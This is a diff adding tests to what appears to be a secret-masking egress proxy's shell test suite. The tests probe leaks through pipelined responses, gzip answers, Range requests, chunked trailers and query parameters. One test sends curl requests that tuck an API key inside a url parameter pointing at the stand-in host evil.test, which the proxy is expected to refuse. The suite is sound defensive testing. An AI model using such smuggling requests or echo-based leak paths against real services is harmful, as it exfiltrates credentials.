@@ -307,6 +307,7 @@ leaked_escaped() {
 	    s = re.sub(pair, lambda m: chr(0x10000 + ((int(m.group(1), 16) - 0xd800) << 10)
 	                                   + int(m.group(2), 16) - 0xdc00), s)
 	    s = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), s)
+	    s = re.sub(r"\\x([0-9a-fA-F]{2})", lambda m: chr(int(m.group(1), 16)), s)
 	    return re.sub(r'\\(["\\/])', r"\1", s)
 	undo = [html.unescape, urllib.parse.unquote, urllib.parse.unquote_plus, json_unescape]
 	views = {data}
@@ -351,8 +352,8 @@ echo == end"
 	expect_eq "bearer swapped" "$(count "Bearer $ESECRET" "$GOODLOG")" 3
 	expect_contains "query swapped" "$(cat "$GOODLOG")" "GET /escaped?key=$EQSECRET&x=1 "
 	# every escaped line holds a mask where the value was
-	expect_eq "19 escapes, 5 echoes of them" "$(grep -c '^[a-z-]*: ' "$T/seen")" 95
-	expect_eq "each masked" "$(grep -c '^[a-z-]*: .*\*\*\*\*\*\*\*\*' "$T/seen")" 95
+	expect_eq "20 escapes, 5 echoes of them" "$(grep -c '^[a-z-]*: ' "$T/seen")" 100
+	expect_eq "each masked" "$(grep -c '^[a-z-]*: .*\*\*\*\*\*\*\*\*' "$T/seen")" 100
 	expect_contains "Location masked" "$(grep -i '^location:' "$T/seen")" "key%253D********"
 	expect_contains "masking named" "$(grep egress.masked "$T/events" | head -1)" "E_KEY"
 	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$ESECRET"
@@ -382,6 +383,201 @@ sys.stdout.write(tls_upstream.escaped(b"GET / HTTP/1.1\r\nAuthorization: Bearer 
 	expect_eq "byte for byte" "$(diff <(cat "$T/want"; echo) "$T/seen" 2>&1)" ""
 	expect_eq "nothing masked" "$(grep -c egress.masked "$T/events")" 0
 	expect_eq "no denials" "$(denials)" 0
+}
+
+# An answer the proxy cannot read (here a gzip one) cuts the connection
+# where it begins, and the whole answers before it still go on: a
+# pipelined echo that arrived in the same read went on as it was, value
+# and all, never masked (an upstream that answers pipelined requests in
+# one write).  The user's side: pipelined answers, one of them an echo,
+# come back whole, the echo masked, the next one unchanged.
+t_answer_before_an_unreadable_one_masked() {
+	secrets_policy
+	nrun -- /usr/bin/python3 -c "
+import os, socket, ssl
+def pipelined(*paths):
+    s = socket.create_connection(('127.0.0.1', 3128), 10)
+    s.sendall(b'CONNECT api.test:$GOOD HTTP/1.1\\r\\n\\r\\n')
+    s.recv(4096)
+    t = ssl.create_default_context().wrap_socket(s, server_hostname='api.test')
+    a = ('Authorization: Bearer ' + os.environ['API_KEY']).encode()
+    for p in paths:
+        t.sendall(b'GET ' + p + b' HTTP/1.1\\r\\nHost: api.test\\r\\n' + a + b'\\r\\n\\r\\n')
+    got = b''
+    while True:
+        try:
+            b = t.recv(65536)
+        except (OSError, ssl.SSLError):
+            break
+        if not b:
+            break
+        got += b
+    print(got.decode('latin-1'))
+print('== gzip')
+pipelined(b'/pipe-echo', b'/echo-gzip')
+print('== hello')
+pipelined(b'/pipe-echo', b'/hello')"
+	stdout > "$T/seen"
+	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
+	local mask
+	mask=$(printf '%*s' ${#SECRET} '' | tr ' ' '*')
+	expect_contains "the echo came back masked" "$(sed -n '/== gzip/,/== hello/p' "$T/seen")" \
+		"Bearer $mask"
+	expect_contains "the gzip one cut off" "$(cat "$T/events")" "Content-Encoding: gzip"
+	expect_contains "said in its place" "$(sed -n '/== gzip/,/== hello/p' "$T/seen")" "HTTP/1.1 502"
+	expect_contains "pipelined: the echo masked" "$(sed -n '/== hello/,$p' "$T/seen")" "Bearer $mask"
+	expect_contains "pipelined: the next whole" "$(sed -n '/== hello/,$p' "$T/seen")" \
+		"hello from upstream /hello"
+	expect_eq "each went, with the value" "$(count "Bearer $SECRET" "$GOODLOG")" 4
+	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
+}
+
+# An answer cut off is said (an event, the 502 the sandbox gets) by the
+# header that made it unreadable: not with that header's value, which is
+# the upstream's bytes, unmasked (a server that put the swapped value in
+# its Content-Encoding or Transfer-Encoding showed it there).  The codings
+# a user meets are still named.
+t_unreadable_answer_said_without_its_bytes() {
+	secrets_policy
+	nrun -- /bin/sh -c "
+c() { curl -sS -m 10 \"\$@\"; echo; }
+a=\"Authorization: Bearer \$API_KEY\"
+c -H \"\$a\" https://api.test:$GOOD/coding-echo
+c -H \"\$a\" https://api.test:$GOOD/te-echo
+c -H \"\$a\" https://api.test:$GOOD/echo-gzip"
+	stdout > "$T/seen"
+	expect_eq "all cut off" "$(grep -c '"type":"egress.denied".*a response from api.test' "$T/events")" 3
+	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
+	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
+	expect_contains "a coding named" "$(cat "$T/seen")" "(Content-Encoding: gzip)"
+	expect_contains "another said" "$(cat "$T/seen")" "(a Content-Encoding other than identity)"
+	expect_contains "a transfer coding said" "$(cat "$T/events")" "(a Transfer-Encoding other than chunked)"
+}
+
+# A range of an answer shows a piece of it: a value cut by the range's
+# start or end, or a few of its bytes alone, is no whole spelling to mask,
+# and ranges at each offset give it all back (a cache in front of a
+# reflecting server answers ranges of what it reflected).  A request to a
+# secret's host goes without Range (or Apache's old Request-Range), and
+# its answer comes whole, masked; a piece it sends unasked (a range in
+# the query) is cut off, as an answer the proxy cannot read.
+# The user's side: ranges to a host no secret goes to are still ranges.
+t_ranges_of_an_echo_never_show_the_secret() {
+	secrets_policy
+	nrun -- /usr/bin/python3 -c "
+import http.client, os, ssl
+def get(host, path, rng, name='Range'):
+    c = http.client.HTTPSConnection('127.0.0.1', 3128, timeout=10)
+    c.set_tunnel(host, $GOOD)
+    # the value before the range: at one offset in each answer
+    h = {'Authorization': 'Bearer ' + os.environ['API_KEY']} if host == 'api.test' else {}
+    if name:
+        h[name] = 'bytes=%d-%d' % rng
+    c.request('GET', path, headers=h)
+    r = c.getresponse()
+    return r.status, r.read()
+for name in ('Range', 'Request-Range', None):
+    got = {}
+    # the value is at about 70 (the request line, Host, Authorization's name)
+    for a in range(50, 130, 10):
+        p = '/echo-range' if name else '/echo-range?range=%d-%d' % (a, a + 9)
+        st, b = get('api.test', p, (a, a + 9), name)
+        if st == 206:
+            got[a] = b
+    print('joined', name, len(got), b''.join(got[k] for k in sorted(got)).decode('latin-1'))
+st, b = get('api.test', '/echo-range', (0, 9))
+print('whole', st, b.decode('latin-1'))
+st, b = get('other.test', '/echo-range', (0, 9))
+print('other', st, b.decode('latin-1'))"
+	stdout > "$T/seen"
+	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
+	expect_contains "no range to a secret's host" "$(cat "$T/seen")" "whole 200 GET /echo-range"
+	expect_contains "masked" "$(cat "$T/seen")" "Bearer $(printf '%*s' ${#SECRET} '' | tr ' ' '*')"
+	expect_contains "a range elsewhere still one" "$(cat "$T/seen")" "other 206 GET /echo-"
+	expect_eq "a Range went to other.test only" "$(count '^Range: bytes' "$GOODLOG")" 1
+	expect_eq "nor a Request-Range" "$(count 'Request-Range' "$GOODLOG")" 0
+	expect_contains "a piece unasked: cut off" "$(cat "$T/seen")" "joined None 0 "
+	expect_contains "said" "$(cat "$T/events")" "206 Partial Content, unasked"
+	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
+}
+
+# A chunked answer's trailers are content: a value echoed in one is masked,
+# also when the proxy reads the trailers in two (they went on unread while
+# they were not whole).  A chunk's extension is framing, not content, and
+# a value there is masked too (it went on as it came).  curl, which reads
+# trailers and skips extensions, gets its answers.
+t_trailers_and_extensions_never_show_the_secret() {
+	secrets_policy
+	nrun -- /bin/sh -c "
+/usr/bin/python3 -c '
+import os, socket, ssl
+s = socket.create_connection((\"127.0.0.1\", 3128), 10)
+s.sendall(b\"CONNECT api.test:$GOOD HTTP/1.1\\r\\n\\r\\n\")
+s.recv(4096)
+t = ssl.create_default_context().wrap_socket(s, server_hostname=\"api.test\")
+t.sendall(b\"GET /echo-trailer HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer \" +
+          os.environ[\"API_KEY\"].encode() + b\"\\r\\n\\r\\n\")
+got = b\"\"
+while True:
+    try:
+        b = t.recv(65536)
+    except (OSError, ssl.SSLError):
+        break
+    if not b:
+        break
+    got += b
+print(got.decode(\"latin-1\"))'
+curl -sS -m 10 -H \"Authorization: Bearer \$API_KEY\" https://api.test:$GOOD/echo-trailer; echo \" curl \$?\"
+/usr/bin/python3 -c '
+import os, socket, ssl
+s = socket.create_connection((\"127.0.0.1\", 3128), 10)
+s.sendall(b\"CONNECT api.test:$GOOD HTTP/1.1\\r\\n\\r\\n\")
+s.recv(4096)
+t = ssl.create_default_context().wrap_socket(s, server_hostname=\"api.test\")
+t.sendall(b\"GET /echo-ext HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer \" +
+          os.environ[\"API_KEY\"].encode() + b\"\\r\\n\\r\\n\")
+got = b\"\"
+while True:
+    try:
+        b = t.recv(65536)
+    except (OSError, ssl.SSLError):
+        break
+    if not b:
+        break
+    got += b
+print(got.decode(\"latin-1\"))'
+curl -sS -m 10 -H \"Authorization: Bearer \$API_KEY\" https://api.test:$GOOD/echo-ext; echo \" curl \$?\""
+	stdout > "$T/seen"
+	expect_eq "nothing of a value came back" "$(leaked "$T/seen")" ""
+	expect_contains "masked" "$(cat "$T/seen")" "X-Echo: Bearer $(printf '%*s' ${#SECRET} '' | tr ' ' '*')"
+	expect_contains "curl's answer" "$(cat "$T/seen")" "!!! curl 0"
+	expect_contains "an extension masked" "$(cat "$T/seen")" "3;echo=\"Bearer $(printf '%*s' ${#SECRET} '' | tr ' ' '*')\""
+	expect_contains "curl's answer (extensions skipped)" "$(cat "$T/seen")" "!!!!!! curl 0"
+	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
+}
+
+# A query's value goes only as the value of its own parameter as the
+# server reads it: parameters split at "&", and a later "?" is a byte of
+# the one before.  "?url=https://evil.test/?key=PH" put the value in url,
+# for a server that fetches that URL (a page-speed or link-preview API
+# under a key in ?key=) to send it to evil.test.  The user's side: first,
+# last, amid others, it is swapped.
+t_query_value_only_in_its_own_parameter() {
+	secrets_policy
+	nrun -- /bin/sh -c "
+h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
+h \"https://api.test:$GOOD/fetch?url=https://evil.test/?key=\$Q_KEY\"
+h \"https://api.test:$GOOD/fetch?url=https://evil.test/?key=\$Q_KEY&x=1\"
+h \"https://api.test:$GOOD/first?key=\$Q_KEY&x=1\"
+h \"https://api.test:$GOOD/last?a=1&b=2&key=\$Q_KEY\"
+h \"https://api.test:$GOOD/amid?a=1&key=\$Q_KEY&b=2\""
+	expect_eq "statuses" "$(stdout | head -5 | tr '\n' ' ')" "403 403 200 200 200 "
+	expect_not_contains "never in another parameter" "$(cat "$GOODLOG")" "evil.test/?key=$QSECRET"
+	expect_contains "first" "$(cat "$GOODLOG")" "GET /first?key=$QSECRET&x=1 "
+	expect_contains "last" "$(cat "$GOODLOG")" "GET /last?a=1&b=2&key=$QSECRET "
+	expect_contains "amid" "$(cat "$GOODLOG")" "GET /amid?a=1&key=$QSECRET&b=2 "
+	expect_eq "refused, said" "$(grep '"type":"egress.denied"' "$T/events" | grep -c 'secret Q_KEY in the URL')" 2
+	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$QSECRET"
 }
 
 # The user's side of the same: a call with the secret whose answer does not
@@ -438,6 +634,20 @@ h -H \"Authorization: Bearer \$API_KEY\" https://api.test:$GOOD/placeholder"
 	expect_eq "the value left once, swapped in" "$(count "$SECRET" "$GOODLOG")" 1
 	expect_contains "named" "$(cat "$T/events")" "the value of secret API_KEY"
 	expect_not_contains "never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
+	# in a path a host's rules refuse: refused for the value, not by the
+	# rules, whose reason shows the path (and so the value) in the event
+	policy ", {\"host\": \"api.test:$GOOD\", \"methods\": [\"GET\"], \"paths\": [\"/ok/*\"]}" \
+		', "env": {"set": {"REAL": "'"$SECRET"'"}}, '"${SECRETS//GOOD/$GOOD}"
+	sed -i "s|QFILE|$TEST_TMP/qkey|" "$T/p.json"
+	nrun -- /bin/sh -c "
+h() { curl -sS -m 10 -o /dev/null -w '%{http_code}\n' \"\$@\"; }
+h \"https://api.test:$GOOD/no/\$REAL\"
+h \"https://api.test:$GOOD/no/$(printf '%0186d' 0)\$REAL\"
+h \"https://api.test:$GOOD/ok/x\""
+	expect_eq "statuses (rules)" "$(stdout | head -3 | tr "\n" " ")" "403 403 200 "
+	expect_eq "refused for the value" "$(grep '"type":"egress.denied"' "$T/events" | grep -c 'the value of secret API_KEY in the URL')" 2
+	expect_not_contains "the value never in events" "$(cat "$T/events" "$T/out")" "$SECRET"
+	expect_not_contains "nor its start" "$(cat "$T/events" "$T/out")" "${SECRET:0:10}"
 }
 
 t_methods_paths_and_caps() {
